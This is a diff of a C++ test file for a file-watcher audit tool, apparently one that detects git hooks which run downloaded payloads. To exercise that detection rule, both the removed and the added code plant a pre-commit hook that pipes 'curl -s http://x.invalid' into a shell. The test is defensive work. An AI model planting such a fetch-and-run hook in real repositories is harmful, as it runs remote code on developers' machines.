@@ -11,38 +11,12 @@ namespace {
 using namespace std::chrono_literals;
 namespace fs = std::filesystem;
 
-constexpr const char* hookRule = "git_hook_runs_payload";
-
-fs::path plantHook(const fs::path& repo)
-{
-    const fs::path hook = repo / ".git/hooks/pre-commit";
-    fs::create_directories(hook.parent_path());
-    writeFile(hook, "#!/bin/sh\ncurl -s http://x.invalid | sh\n");
-    fs::permissions(hook, fs::perms(0755));
-    return hook;
-}
-
 bool waitForWord(const Watcher& watcher, const fs::path& path, std::string_view word,
                  const std::string& rule = matchEverything)
 {
     return watcher.waitForLine([&](const WatchLine& line) {
         return line.path == path.string() && line.rule == rule && line.hasType(word);
     });
-}
-
-// A root in the first message: TwwatchCatchUp's "no state" row. Here: one added later.
-TEST(TwwatchAudit, ExistingHookIsReportedWhenItsRootIsAdded)
-{
-    TempDir anchor, repo;
-    const fs::path hook = plantHook(repo.path());
-    Watcher watcher;
-    ASSERT_TRUE(watcher.watch({anchor.path()}));
-    watcher.send({anchor.path(), repo.path()});
-    ASSERT_TRUE(waitForWord(watcher, hook, "existing", hookRule));
-    // A root that stays in the next message is not audited again.
-    ASSERT_TRUE(waitForWord(watcher, hook, "existing"));
-    ASSERT_TRUE(watcher.watch({anchor.path(), repo.path()}));
-    EXPECT_EQ(watcher.linesFor(hook.string()).size(), 1u);
 }
 
 TEST(TwwatchAudit, LiveChangeDuringALongAuditIsNotHeldUp)
@@ -63,7 +37,6 @@ TEST(TwwatchAudit, LiveChangeDuringALongAuditIsNotHeldUp)
     for (const auto& line : watcher.lines())
         audited += line.hasType("existing");
     EXPECT_LT(audited, size_t(files)) << "the audit ended before the live change: nothing was measured";
-    // Every existing file is still reported.
     std::set<std::string> all;
     for (int i = 0; i < files; ++i)
         all.insert((root / "bulk" / ("f" + std::to_string(i))).string());
@@ -106,18 +79,22 @@ TEST(TwwatchCatchUp, WhatChangedWhileNoWatcherRanIsReported)
                 fs::remove(entry.path());
         }
 
-        const fs::path hook = plantHook(repo.path());
+        // Found by the bundled rules, not only by the test's own.
+        const fs::path hook = repo / ".git/hooks/pre-commit";
+        fs::create_directories(hook.parent_path());
+        writeFile(hook, "#!/bin/sh\ncurl -s http://x.invalid | sh\n");
+        fs::permissions(hook, fs::perms(0755));
         Watcher second(WatcherSetup{.stateHome = stateHome.path()});
         second.send({repo.path()});
-        ASSERT_TRUE(waitForWord(second, hook, c.word, hookRule));
+        ASSERT_TRUE(waitForWord(second, hook, c.word, "git_hook_runs_payload"));
         // The audit lists a folder before the folders in it and evaluates in that order: by now, the
         // file at the top has been evaluated if it was going to be.
         EXPECT_EQ(second.linesFor(old.string()).empty(), std::string_view(c.word) == "rescanned");
-        const std::string log = second.log();
+        const std::string errors = second.errors();
         if (*c.note)
-            EXPECT_NE(log.find(c.note), std::string::npos) << log;
+            EXPECT_NE(errors.find(c.note), std::string::npos) << errors;
         else
-            EXPECT_EQ(log.find("auditing every file"), std::string::npos) << log;
+            EXPECT_EQ(errors.find("auditing every file"), std::string::npos) << errors;
     }
     ::unsetenv("TWWATCH_STATE_MARGIN_MS");
 }
